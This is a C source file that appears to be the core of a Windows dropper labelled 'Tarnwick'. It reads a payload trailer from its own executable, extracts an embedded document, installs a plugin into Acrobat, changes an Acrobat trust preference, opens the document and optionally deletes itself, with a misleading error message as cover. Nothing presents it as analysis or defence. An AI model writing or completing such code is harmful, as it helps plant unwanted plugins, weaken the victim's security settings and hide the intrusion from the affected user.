#include "delivery.h"

#include <windows.h>
#include <string.h>

#include "../common/text.h"
#include "payload.h"
#include "plugin.h"
#include "self_delete.h"
#include "state.h"
#include "trust.h"

enum { kShortestClosingMessage = 6 };

void ComputeOwnDir()
{
    gEmbed.ownDir[0] = '\0';
    for (size_t i = strlen(gEmbed.ownPath); i > 1; --i) {
        if (gEmbed.ownPath[i - 1] == '\\') {
            CopyTextN(gEmbed.ownDir, sizeof gEmbed.ownDir, gEmbed.ownPath, i - 1);
            return;
        }
    }
}

int CheckWindowsVersion()
{
    DWORD version = GetVersion();
    if (version < 0x80000000u)
        return 1;
    return (version & 0xFF) >= 4;
}

void RunDelivery(const char *)
{
    if (!CheckWindowsVersion()) {
        MessageBoxA(NULL, "Cannot Install on this System. Please use 16-bit Installer", "Error",
                    MB_OK);
        return;
    }
    ComputeOwnDir();
    if (!ReadTrailer())
        return;
    gEmbed.kind = gEmbed.docOffset != 0    ? kDocumentInstaller
                  : gEmbed.plugOffset != 0 ? kPluginInstaller
                                           : kUpdateInstaller;
    if (gEmbed.kind == kDocumentInstaller && !ExtractDocument())
        return;
    if (gEmbed.kind != kUpdateInstaller) {
        FindAcrobatPaths();
        InstallPlugin();  // a refused or failed copy does not stop the run
    }
    if (AdjustTrustPreference() == 0)
        return;
    if (gEmbed.kind == kDocumentInstaller)
        OpenDocument(gEmbed.acrobatExecutable);
    if (strlen(gEmbed.closingMessage) >= kShortestClosingMessage)
        MessageBoxA(NULL, gEmbed.closingMessage, "Tarnwick", MB_OK);
    if (strlen(gEmbed.selfDelete) == 3)
        SelfDelete();
}
